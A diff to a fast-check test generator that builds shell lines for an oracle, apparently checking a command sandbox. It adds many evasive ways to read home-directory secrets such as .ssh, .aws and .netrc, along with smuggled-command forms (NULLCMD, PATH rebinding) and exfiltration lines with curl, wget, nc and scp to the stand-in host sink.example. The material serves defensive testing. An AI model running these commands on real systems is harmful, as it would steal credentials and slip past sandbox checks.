@@ -7,11 +7,16 @@
 import fc from "fast-check";
 import { HOME, PAYLOAD } from "./world.js";
 
+/** The shells the oracle decides and runs lines for: the host's `$SHELL` or `/bin/sh` (dash on Debian). */
+export type OracleShell = "bash" | "sh" | "zsh";
+
 /** A generated command line and the classes it was built from. */
 export interface GeneratedLine {
   line: string;
   /** Class tags: lowercase words joined by `-`. */
   tags: string[];
+  /** The shell that decides and runs it (bash when absent). */
+  shell?: OracleShell;
 }
 
 /** A path spelled one way: statements to run first, the word, and a redirect to put after the command. */
@@ -19,6 +24,8 @@ interface Spelled {
   setup: string[];
   word: string;
   after?: string;
+  /** Words put before the tool: a runner that changes the directory (`env -C ~`). */
+  prefix?: string;
   tags: string[];
 }
 
@@ -57,6 +64,8 @@ const HOME_SPELLINGS: HomeSpelling[] = [
   { tag: "proc-root", dir: `/proc/self/root${HOME}` },
   { tag: "proc-cwd", dir: "/proc/self/cwd/.." },
   { tag: "proc-pid", dir: `/proc/$$/root${HOME}` },
+  { tag: "proc-cwd-dot", dir: "/./proc/self/cwd/.." },
+  { tag: "proc-cwd-up", dir: "../../../proc/self/cwd/.." },
   { tag: "cmdsub-echo", dir: "$(echo ~)" },
   { tag: "cmdsub-dirname", dir: '$(dirname "$PWD")' },
   { tag: "cmdsub-realpath", dir: "$(realpath ..)" },
@@ -139,6 +148,51 @@ function spelledAfterCd(rels: fc.Arbitrary<[string, string, string]>): fc.Arbitr
     }));
 }
 
+/** A canary named relative to a directory a runner changes to (`env -C ~ cat .netrc`). */
+function spelledViaRunner(rels: fc.Arbitrary<[string, string, string]>): fc.Arbitrary<Spelled> {
+  const runners: [string, (dir: string) => string][] = [
+    ["env-c", (d) => `env -C ${d} `],
+    ["env-chdir", (d) => `env --chdir=${d} `],
+    ["env-c-timeout", (d) => `env -C ${d} timeout 5 `],
+    ["env-ch-abbrev", (d) => `env --chd=${d} `],
+    ["timeout-env-c", (d) => `timeout 5 env -C ${d} `],
+    ["sudo-d", (d) => `sudo -D ${d} `],
+  ];
+  return fc
+    .tuple(fc.constantFrom(...HOME_SPELLINGS), fc.constantFrom(...runners), rels)
+    .map(([s, [tag, prefix], [rel, , target]]) => ({
+      setup: s.setup ?? [],
+      prefix: prefix(s.dir),
+      word: rel === "" ? "." : rel,
+      tags: [`path-${s.tag}`, `cwd-${tag}`, ...targetTags(rel, target)],
+    }));
+}
+
+/**
+ * A folder holding canaries reached by a relative `cd` that a search path steers (`CDPATH=~; cd .ssh`, zsh's
+ * `cdpath=(~)`, `: ${CDPATH:=~}`), read as `.` when the `cd` worked.
+ */
+function spelledViaCdpath(): fc.Arbitrary<Spelled> {
+  const steers: [string, (dir: string) => string][] = [
+    ["cdpath-assign", (d) => `CDPATH=${d}`],
+    ["cdpath-default", (d) => `: \${CDPATH:=${d}}`],
+    ["cdpath-zsh", (d) => `cdpath=(${d})`],
+  ];
+  return fc
+    .tuple(
+      fc.constantFrom(...HOME_SPELLINGS),
+      fc.constantFrom(...steers),
+      fc.constantFrom(".ssh", ".aws", ".config"),
+    )
+    .map(([s, [tag, steer], rel]) => ({
+      setup: [...(s.setup ?? []), steer(s.dir)],
+      // `&&`: where the shell does not follow the search path, the read must not fall back to the workspace
+      prefix: `cd ${rel} > /dev/null && `,
+      word: ".",
+      tags: [`path-${s.tag}`, `cwd-${tag}`, "target-home-dir"],
+    }));
+}
+
 function spelledThroughFd(rels: fc.Arbitrary<[string, string, string]>): fc.Arbitrary<Spelled> {
   return fc
     .tuple(fc.constantFrom(...HOME_SPELLINGS), rels, fc.constantFrom("fd", "stdin"))
@@ -165,6 +219,7 @@ const workspaceEnv: fc.Arbitrary<Spelled> = fc
 const fileWord: fc.Arbitrary<Spelled> = fc.oneof(
   { arbitrary: spelledUnderHome(secretFile), weight: 6 },
   { arbitrary: spelledAfterCd(secretFile), weight: 2 },
+  { arbitrary: spelledViaRunner(secretFile), weight: 1 },
   { arbitrary: spelledThroughFd(secretFile), weight: 1 },
   { arbitrary: workspaceEnv, weight: 1 },
 );
@@ -173,6 +228,8 @@ const fileWord: fc.Arbitrary<Spelled> = fc.oneof(
 const dirWord: fc.Arbitrary<Spelled> = fc.oneof(
   { arbitrary: spelledUnderHome(secretDir), weight: 3 },
   { arbitrary: spelledAfterCd(secretDir), weight: 1 },
+  { arbitrary: spelledViaRunner(secretDir), weight: 1 },
+  { arbitrary: spelledViaCdpath(), weight: 1 },
 );
 
 /** Read-only tools that read the files named by their argument (`W`) and print something of them. */
@@ -225,13 +282,15 @@ export const DIR_READERS: [string, string][] = [
   ["du-a", "du -a D"],
   ["ls-r", "ls -laR D"],
   ["tar-c", "tar cf - D"],
+  ["zip-r", "zip -qr - D"],
+  ["cp-r", "cp -r D copied && cat copied/* copied/.*"],
   ["cat-star", "cat D/*"],
   ["head-dotstar", "head D/.*"],
   ["wc-star", "wc -c D/*"],
 ];
 
 function applyTool(template: string, slot: string, s: Spelled): { setup: string[]; main: string } {
-  const main = template.split(slot).join(s.word);
+  const main = (s.prefix ?? "") + template.split(slot).join(s.word);
   return { setup: s.setup, main: s.after === undefined ? main : `${main} ${s.after}` };
 }
 
@@ -352,6 +411,12 @@ const SMUGGLE_FORMS: [string, string][] = [
   ["bash-env", `BASH_ENV=<(echo ${P}) bash -c true`],
   ["heredoc-bash", `bash <<EOF\n${P}\nEOF`],
   ["brace-name", `{${P},}`],
+  ["readnullcmd", `READNULLCMD=${P}; < README.md`],
+  ["nullcmd", `NULLCMD=${P}; > /dev/null`],
+  ["for-path", "for PATH in ~/bin; do ls; done"],
+  ["select-path", "select PATH in ~/bin; do ls; break; done <<< 1"],
+  ["path-array", "path=(~/bin $path); ls"],
+  ["path-default", ": ${PATH:=x}; ls"],
 ];
 
 const smuggle: fc.Arbitrary<Main> = fc
@@ -398,6 +463,143 @@ const write: fc.Arbitrary<Main> = fc
     main: t.split("T").join(word),
     tags: [`write-${tag}`, `target-${target}`],
   }));
+
+/**
+ * Tools pointed at another directory by an option of their own, reading canaries named relative to it (`D`: a
+ * spelling of the home directory, `R`: a canary file, or a directory holding canaries, relative to it).
+ */
+export const DIR_OPTION_READERS: [string, string, "file" | "dir"][] = [
+  ["git-c-diff", "git -C {D} diff --no-index /dev/null {R}", "file"],
+  ["git-c-grep", "git -C {D} grep --no-index -e '' -- {R}", "dir"],
+  ["git-c-hash-object", "git -C {D} hash-object {R}", "file"],
+  ["git-c-config-file", "git -C {D} config --file {R} --list", "file"],
+  ["git-work-tree-grep", "git --work-tree={D} grep --untracked -e '' -- {R}", "dir"],
+  ["git-git-dir-work-tree", "git --git-dir .git --work-tree {D} grep --untracked -e '' {R}", "dir"],
+  ["git-env-work-tree", "GIT_WORK_TREE={D} git grep --untracked -e '' -- {R}", "dir"],
+  ["tar-c-dir", "tar -C {D} -cf - {R}", "dir"],
+  ["tar-dir-after", "tar cf - -C {D} {R}", "dir"],
+  ["tar-directory-eq", "tar --directory={D} -cf - {R}", "dir"],
+  ["tar-directory-verbose", "tar --directory {D} -cvf /dev/null {R}", "file"],
+  ["make-c-file", "make -C {D} -f {R}", "file"],
+  ["make-directory-file", "make --directory={D} --file={R}", "file"],
+  ["npm-prefix-userconfig", "npm --prefix {D} --userconfig {R} ls", "file"],
+];
+
+/** Tools given a file to read as an option value or a variable (`W`: a canary file, spelled any way). */
+export const FILE_OPTION_READERS: [string, string][] = [
+  ["git-cfg-excludes", "git -c core.excludesFile=W status --short --ignored"],
+  ["git-cfg-attributes", "git -c core.attributesFile=W diff HEAD~1 --stat"],
+  ["git-cfg-mailmap", "git -c mailmap.file=W log -1 --use-mailmap"],
+  ["git-cfg-include", "git -c include.path=W log -1"],
+  ["git-config-file", "git config --file=W --list"],
+  ["git-env-config-global", "GIT_CONFIG_GLOBAL=W git config --list"],
+  ["git-env-config-system", "GIT_CONFIG_SYSTEM=W git config --list --system"],
+  ["make-f", "make -f W"],
+  ["make-file-eq", "make --file=W"],
+  ["make-makefile", "make --makefile W -n"],
+  ["make-n-p", "make -n -p -f W"],
+  ["tar-t", "tar -tvf W"],
+  ["npm-userconfig", "npm --userconfig=W ls"],
+];
+
+/**
+ * Tools that run the code of the directory they are pointed at (`{D}`: a spelling of the home directory, which
+ * holds a Makefile and a package.json that run the payload, and `D/other`, a repository whose configuration
+ * runs it).
+ */
+export const FOREIGN_CODE: [string, string][] = [
+  ["git-c-status", "git -C {D}/other status"],
+  ["git-c-diff", "git -C {D}/other diff"],
+  ["git-c-log-pager", "git -C {D}/other -p log -1"],
+  ["git-git-dir", "git --git-dir={D}/other/.git --work-tree={D}/other status"],
+  ["git-git-dir-space", "git --git-dir {D}/other/.git diff"],
+  ["git-env-dir", "GIT_DIR={D}/other/.git GIT_WORK_TREE={D}/other git status"],
+  ["make-c", "make -C {D}"],
+  ["make-c-glued", "make -C{D}"],
+  ["make-directory-eq", "make --directory={D}"],
+  ["make-directory-abbrev", "make --dir={D}"],
+  ["make-directory-n", "make -n --directory {D}"],
+  ["make-f-makefile", "make -f {D}/Makefile"],
+  ["make-src-up", "make -C src -f ../../Makefile"],
+  ["npm-prefix-test", "npm --prefix {D} test"],
+  ["npm-prefix-eq-run", "npm --prefix={D} run build"],
+  ["npm-c-test", "npm -C {D} test"],
+  ["npm-test-prefix-after", "npm test --prefix {D}"],
+  ["env-c-make", "env -C {D} make"],
+  ["env-chdir-npm", "env --chdir={D} npm test"],
+];
+
+/** A home-relative canary file or directory (`.` for the home itself) for {@link DIR_OPTION_READERS}. */
+const relativeTarget = (kind: "file" | "dir"): fc.Arbitrary<[string, string[]]> =>
+  kind === "file"
+    ? fc.constantFrom(...SECRET_FILES).map(([rel]) => [rel, ["target-home-file", fileTag(rel)]])
+    : fc.constantFrom(...SECRET_DIRS).map((rel) => [rel === "" ? "." : rel, ["target-home-dir"]]);
+
+/** A spelling of the home directory as one word (quoted when it may be), with what must run first. */
+const homeWord: fc.Arbitrary<{ setup: string[]; word: string; tags: string[] }> = fc
+  .tuple(fc.constantFrom(...HOME_SPELLINGS), fc.boolean())
+  .map(([s, quote]) => {
+    const quoted = quote && s.quotable === true;
+    return {
+      setup: s.setup ?? [],
+      word: quoted ? `"${s.dir}"` : s.dir,
+      tags: [`path-${s.tag}`, ...(quoted ? ["quoted"] : [])],
+    };
+  });
+
+/** Fills `{D}` with a home spelling (a quoted one keeps its quotes around `{D}/other` too). */
+function fillDir(template: string, home: { word: string }): string {
+  const word = home.word;
+  if (!word.startsWith('"')) return template.split("{D}").join(word);
+  const bare = word.slice(1, -1);
+  return template.replace(/\{D\}([\w./]*)/g, (_m, rest: string) => `"${bare}${rest}"`);
+}
+
+const readViaDirOption: fc.Arbitrary<Main> = fc
+  .constantFrom(...DIR_OPTION_READERS)
+  .chain(([tag, template, kind]) =>
+    fc.tuple(fc.constant([tag, template] as const), homeWord, relativeTarget(kind)),
+  )
+  .map(([[tag, template], home, [rel, targetTags]]) => ({
+    setup: home.setup,
+    main: fillDir(template.replace("{R}", rel), home),
+    tags: [`read-${tag}`, ...home.tags, ...targetTags],
+  }));
+
+const readViaFileOption: fc.Arbitrary<Main> = fc
+  .tuple(fc.constantFrom(...FILE_OPTION_READERS), fileWord)
+  .map(([[tag, t], s]) => ({ ...applyTool(t, "W", s), tags: [`read-${tag}`, ...s.tags] }));
+
+const foreignCode: fc.Arbitrary<Main> = fc
+  .tuple(fc.constantFrom(...FOREIGN_CODE), homeWord)
+  .map(([[tag, template], home]) => ({
+    setup: home.setup,
+    main: fillDir(template, home),
+    tags: [`foreign-${tag}`, ...home.tags],
+  }));
+
+/** Network programs given a canary to send (`W`), by option or stdin. The sandbox has no network. */
+export const NETWORK_SINKS: [string, string][] = [
+  ["curl-d", "curl -s -d @W http://sink.example:8080/"],
+  ["curl-data-binary", "curl -s --data-binary @W http://sink.example:8080/"],
+  ["curl-data-eq", "curl -s --data=@W http://sink.example:8080/"],
+  ["curl-form", "curl -s -F f=@W http://sink.example:8080/"],
+  ["curl-t", "curl -s -T W http://sink.example:8080/"],
+  ["curl-upload-file", "curl -s --upload-file W http://sink.example:8080/"],
+  ["curl-stdin", "curl -s -d @- http://sink.example:8080/ < W"],
+  ["curl-config", "curl -s -K W http://sink.example:8080/"],
+  ["wget-post-file", "wget -q -O- --post-file=W http://sink.example:8080/"],
+  ["wget-body-file", "wget -q -O- --body-file W --method=PUT http://sink.example:8080/"],
+  ["nc-stdin", "nc -w 1 sink.example 8080 < W"],
+  ["nc-pipe", "cat W | nc -w 1 sink.example 8080"],
+  ["ssh-identity", "ssh -i W -p 2222 sink.example true"],
+  ["ssh-config", "ssh -F W sink.example true"],
+  ["scp-upload", "scp -P 2222 W sink.example:"],
+];
+
+const sendSecret: fc.Arbitrary<Main> = fc
+  .tuple(fc.constantFrom(...NETWORK_SINKS), fileWord)
+  .map(([[tag, t], s]) => ({ ...applyTool(t, "W", s), tags: [`send-${tag}`, ...s.tags] }));
 
 /** Everyday read-only work in the workspace: must stay allowed, and must do nothing wrong. */
 const BENIGN = [
@@ -453,6 +655,9 @@ const WRAPPERS: [string, (x: string) => string][] = [
   ["or-true", (x) => `${x} || true`],
 ];
 
+/** The shell of a line: bash mostly, `/bin/sh` (dash on Debian) and zsh, the other shells hosts run. */
+const SHELLS: OracleShell[] = ["bash", "bash", "bash", "bash", "bash", "bash", "sh", "sh", "zsh", "zsh"];
+
 /** Every oracle line: a main command of some class, what it needs first, joined and wrapped. */
 export const oracleLine: fc.Arbitrary<GeneratedLine> = fc
   .tuple(
@@ -463,17 +668,28 @@ export const oracleLine: fc.Arbitrary<GeneratedLine> = fc
       { arbitrary: smuggle, weight: 20 },
       { arbitrary: write, weight: 10 },
       { arbitrary: benign, weight: 18 },
+      { arbitrary: readViaDirOption, weight: 6 },
+      { arbitrary: readViaFileOption, weight: 4 },
+      { arbitrary: foreignCode, weight: 5 },
+      { arbitrary: sendSecret, weight: 4 },
     ),
     fc.constantFrom(...JOINERS),
     fc.constantFrom(...WRAPPERS),
+    fc.constantFrom(...SHELLS),
   )
-  .map(([m, [joinTag, joiner], [wrapTag, wrap]]) => {
+  .map(([m, [joinTag, joiner], [wrapTag, wrap], shell]) => {
     const inner = [...m.setup, m.main].join(joiner);
     const wrapped = wrap(inner);
     const multi = m.setup.length > 0 || m.main.includes("\n");
     return {
       line: wrapped,
-      tags: [...m.tags, ...(multi ? [`sep-${joinTag}`] : []), `wrap-${wrapTag}`],
+      tags: [
+        ...m.tags,
+        ...(multi ? [`sep-${joinTag}`] : []),
+        `wrap-${wrapTag}`,
+        ...(shell === "bash" ? [] : [`shell-${shell}`]),
+      ],
+      ...(shell === "bash" ? {} : { shell }),
     };
   });
 
